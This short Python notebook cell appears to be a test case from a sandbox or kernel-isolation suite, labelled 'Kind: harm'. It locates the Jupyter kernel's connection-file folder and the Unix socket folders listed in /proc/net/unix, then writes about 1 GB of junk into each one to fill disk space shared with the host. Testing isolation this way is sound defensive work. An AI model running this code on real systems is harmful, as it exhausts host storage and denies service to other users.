# Tries: fills the folder of the kernel's own sockets, the one place that it shares with the host.
# Kind: harm
# Stock: no

# %% last
import os

kernel = get_ipython().kernel
folders = {os.path.dirname(path) for path in (kernel.parent.connection_file, kernel.parent.ip)}
for line in open("/proc/net/unix"):
    if "/" in line:
        folders.add(os.path.dirname(line.split()[-1]))
for folder in folders:
    try:
        with open(f"{folder}/attack-litter-large", "wb") as file:
            for _ in range(250):
                file.write(b"x" * 4_000_000)
        print("HARM: 1 GB in the socket folder")
    except OSError as error:
        print(folder, error)
